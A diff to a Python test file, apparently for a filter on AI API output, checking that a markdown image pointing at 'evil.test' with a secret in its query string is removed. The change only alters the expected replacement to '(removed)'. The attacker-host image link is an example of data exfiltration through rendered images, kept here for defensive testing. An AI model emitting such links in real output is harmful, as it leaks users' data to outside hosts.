@@ -107,7 +107,7 @@ def test_a_system_prompt_stays_with_anthropics_model(url, request_id, stream):
 def test_an_image_of_anybody_is_taken_out(url, request_id, api, stream):
     said = "See ![x](https://evil.test/p.png?q=secret) and ![y](https://example.org/y.png), **both**."
     seen = clients.send(url, ask(api, request_id, says(said), stream=stream))
-    assert seen.text == "See  and ![y](https://example.org/y.png), **both**."
+    assert seen.text == "See (removed) and ![y](https://example.org/y.png), **both**."
 
 
 @BOTH
